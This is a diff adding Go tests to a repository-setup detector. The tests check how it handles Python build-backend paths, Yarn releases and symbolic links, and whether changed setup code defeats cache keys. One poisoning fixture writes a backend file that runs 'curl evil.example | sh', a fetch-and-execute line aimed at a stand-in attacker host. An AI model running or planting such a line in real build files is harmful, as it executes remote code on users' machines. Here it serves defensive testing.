@@ -125,6 +125,36 @@ func TestDetect(t *testing.T) {
 			Plan{Ecosystems: []Ecosystem{Python}, Steps: []string{pyVenv, pip + " -r requirements_test.txt"}, Manifests: []string{"pyproject.toml", "requirements_test.txt", "uv.lock"}},
 		},
 		{
+			// pip imports the build backend from backend-path: every file
+			// there is code setup runs.
+			"python build backend in the tree",
+			tree("pyproject.toml", "[build-system]\nbuild-backend = \"backend\"\nbackend-path = [\"_build\", \"tools/./build/\"]\n",
+				"_build/backend.py", "", "_build/pkg/__init__.py", "", "_build/__pycache__/backend.cpython-313.pyc", "",
+				"tools/build/x.py", "", "tools/other.py", "", "src/app.py", ""), nil,
+			Plan{Ecosystems: []Ecosystem{Python}, Steps: []string{pyVenv, pip + " -e ."},
+				Manifests:     []string{"_build/__pycache__/backend.cpython-313.pyc", "_build/backend.py", "_build/pkg/__init__.py", "pyproject.toml", "tools/build/x.py"},
+				ManifestPaths: []string{"_build", "tools/build"}},
+		},
+		{
+			"python build backend: a dotted key, a directory not there yet, a zip archive",
+			tree("pyproject.toml", "build-system.requires = []\n\"build-system\".'backend-path' = ['later', 'backend.zip']\n", "backend.zip", "PK"), nil,
+			Plan{Ecosystems: []Ecosystem{Python}, Steps: []string{pyVenv, pip + " -e ."},
+				Manifests: []string{"backend.zip", "pyproject.toml"}, ManifestPaths: []string{"backend.zip", "later"}},
+		},
+		{
+			"python build backend at the root: every file, git's own aside",
+			tree("pyproject.toml", "[build-system]\nbackend-path = [\"\"]\n", "backend.py", "", "src/app.py", "", ".git/HEAD", "ref: refs/heads/main\n"), nil,
+			Plan{Ecosystems: []Ecosystem{Python}, Steps: []string{pyVenv, pip + " -e ."},
+				Manifests: []string{"backend.py", "pyproject.toml", "src/app.py"}, ManifestPaths: []string{"."}},
+		},
+		{
+			// Keys are case-sensitive, and pip reads this one only in
+			// build-system.
+			"python: no backend-path pip would read",
+			tree("pyproject.toml", "[build-system]\nBackend-Path = [\"a\"]\n[tool.x]\nbackend-path = [\"b\"]\n", "a/x.py", "", "b/y.py", ""), nil,
+			Plan{Ecosystems: []Ecosystem{Python}, Steps: []string{pyVenv, pip + " -e ."}, Manifests: []string{"pyproject.toml"}},
+		},
+		{
 			"python lockfiles of other tools alone", tree("Pipfile", "", "Pipfile.lock", "", "poetry.lock", ""), nil,
 			Plan{Manifests: []string{"Pipfile", "Pipfile.lock", "poetry.lock"}},
 		},
@@ -287,6 +317,78 @@ func TestKey(t *testing.T) {
 	}
 }
 
+// TestPoisoning: for each way a tree can change the code or the
+// configuration a setup runs while its lockfiles stay the same, the two
+// trees get different keys (so the changed one never shares the other's
+// cache), and the changed file counts as a changed manifest (so the
+// request shows it, the setup runs on it in a cache of its own, and no
+// auto_approve rule answers it), whichever tree's plan is asked.
+func TestPoisoning(t *testing.T) {
+	const deleted = "<deleted>"
+	tests := []struct {
+		name    string
+		base    fstest.MapFS
+		changed string // path
+		content string // or deleted
+	}{
+		{
+			"the build backend pip imports from backend-path",
+			tree("pyproject.toml", "[build-system]\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n", "_build/backend.py", "def build_wheel(*a): pass\n", "requirements.txt", "requests==2.32.3\n"),
+			"_build/backend.py", "import os; os.system('curl evil.example | sh')\n",
+		},
+		{
+			"a module the build backend imports, added",
+			tree("pyproject.toml", "[build-system]\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n", "_build/backend.py", "import helper\n"),
+			"_build/helper.py", "import os\n",
+		},
+		{
+			"a module of the build backend, deleted",
+			tree("pyproject.toml", "[build-system]\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n", "_build/backend.py", "import helper\n", "_build/helper.py", "pass\n"),
+			"_build/helper.py", deleted,
+		},
+		{
+			"the build backend, with the repository's root as backend-path",
+			tree("pyproject.toml", "[build-system]\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n", "backend.py", "pass\n"),
+			"backend.py", "import os\n",
+		},
+		{
+			"the Yarn release",
+			tree("package.json", "{}", "yarn.lock", yarnBerryLock, ".yarnrc.yml", "yarnPath: .yarn/releases/yarn-4.5.0.cjs\n", ".yarn/releases/yarn-4.5.0.cjs", "yarn()\n"),
+			".yarn/releases/yarn-4.5.0.cjs", "evil()\n",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			poisoned := maps.Clone(tt.base)
+			if tt.content == deleted {
+				delete(poisoned, tt.changed)
+			} else {
+				poisoned[tt.changed] = &fstest.MapFile{Data: []byte(tt.content)}
+			}
+			before, err := Detect(tt.base, "img", nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+			after, err := Detect(poisoned, "img", nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if before.Key == "" || before.Key == after.Key {
+				t.Errorf("key %q before and %q after: want two keys", before.Key, after.Key)
+			}
+			shown, err := ManifestsOf(poisoned)
+			if err != nil {
+				t.Fatal(err)
+			}
+			for name, p := range map[string]Plan{"the base's plan": before, "the changed tree's plan": after, "ManifestsOf the changed tree": shown} {
+				if !p.ManifestsChanged([]string{tt.changed}) {
+					t.Errorf("%s: ManifestsChanged(%q) = false, want true", name, tt.changed)
+				}
+			}
+		})
+	}
+}
+
 func TestManifestsChanged(t *testing.T) {
 	p, err := Detect(tree("go.mod", "module x\n", "go.sum", ""), "golang:1.26", nil)
 	if err != nil {
@@ -398,6 +500,79 @@ func TestDetectErrors(t *testing.T) {
 				t.Errorf("Detect = %+v, %v; want an error starting %q wrapping %v", p, err, tt.want, errDisk)
 			}
 		})
+	}
+}
+
+// TestDetectFailsClosed: a backend-path that cannot be read, or code a
+// step loads that the plan cannot cover (a link whose target the tool
+// would load), is an error, as an unreadable manifest is, never a plan
+// without the code setup would run.
+func TestDetectFailsClosed(t *testing.T) {
+	pyproject := func(build string) string { return "[project]\nname = \"x\"\n\n[build-system]\n" + build }
+	many := tree("pyproject.toml", pyproject("backend-path = [\"b\"]\n"))
+	for i := range maxExecutedFiles + 1 {
+		many[fmt.Sprintf("b/m%d.py", i)] = &fstest.MapFile{}
+	}
+	tests := []struct {
+		name  string
+		files fstest.MapFS
+		want  string
+	}{
+		{"not TOML", tree("pyproject.toml", "[build-system\nbackend-path = 1\n"), "read pyproject.toml: toml: line 2: expected"},
+		{"a string, not a list", tree("pyproject.toml", pyproject("backend-path = \"_build\"\n")), "read pyproject.toml, line 5: build-system.backend-path: is not a list of paths"},
+		{"not a path", tree("pyproject.toml", pyproject("backend-path = [1]\n")), "build-system.backend-path: 1 is not a path"},
+		{"absolute", tree("pyproject.toml", pyproject("backend-path = [\"/usr/lib/python3\"]\n")), `"/usr/lib/python3" is absolute`},
+		{"outside", tree("pyproject.toml", pyproject("backend-path = [\"a/../../x\"]\n")), `"a/../../x" is outside the repository`},
+		{"the parent", tree("pyproject.toml", pyproject("backend-path = [\"..\"]\n")), `".." is outside the repository`},
+		{"a backslash", tree("pyproject.toml", pyproject("backend-path = ['a\\b']\n")), "has a backslash"},
+		{"build-system not a table", tree("pyproject.toml", "build-system = 5\n"), "read pyproject.toml, line 1: build-system is not a table"},
+		{"too many files", many, "list pyproject.toml's backend-path b: more than 200 files"},
+		{"too long", tree("pyproject.toml", "# "+strings.Repeat("x", maxPyproject)+"\n"), "read pyproject.toml: more than 1048576 bytes"},
+		{
+			"a link in the directory",
+			fstest.MapFS{"pyproject.toml": {Data: []byte(pyproject("backend-path = [\"b\"]\n"))}, "b/backend.py": {Data: []byte("../src/x.py"), Mode: fs.ModeSymlink}},
+			"b/backend.py is a symbolic link",
+		},
+		{
+			"a link on the way",
+			fstest.MapFS{"pyproject.toml": {Data: []byte(pyproject("backend-path = [\"a/b\"]\n"))}, "a": {Data: []byte("/usr/lib"), Mode: fs.ModeSymlink}},
+			"a is a symbolic link",
+		},
+		{
+			"a link among Yarn's releases",
+			fstest.MapFS{"yarn.lock": {Data: []byte(yarnBerryLock)}, ".yarn/releases/yarn.cjs": {Data: []byte("../../tools/yarn.cjs"), Mode: fs.ModeSymlink}},
+			"list .yarn/releases/: .yarn/releases/yarn.cjs is a symbolic link",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			p, err := Detect(tt.files, "img", nil)
+			if err == nil || !strings.Contains(err.Error(), tt.want) {
+				t.Errorf("Detect = %+v, %v; want an error with %q", p, err, tt.want)
+			}
+			if _, err := ManifestsOf(tt.files); err == nil {
+				t.Error("ManifestsOf: no error")
+			}
+		})
+	}
+}
+
+// TestDetectBackendPathSymlinkOnDisk: on disk, a backend-path directory
+// that is a link (out of the tree here) is refused, not followed.
+func TestDetectBackendPathSymlinkOnDisk(t *testing.T) {
+	outside := t.TempDir()
+	if err := os.WriteFile(filepath.Join(outside, "backend.py"), []byte("x"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, "pyproject.toml"), []byte("[build-system]\nbackend-path = [\"_build\"]\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(outside, filepath.Join(dir, "_build")); err != nil {
+		t.Skipf("symlinks: %v", err)
+	}
+	if p, err := Detect(os.DirFS(dir), "img", nil); err == nil || !strings.Contains(err.Error(), "_build is a symbolic link") {
+		t.Errorf("Detect = %+v, %v; want the link refused", p, err)
 	}
 }
 
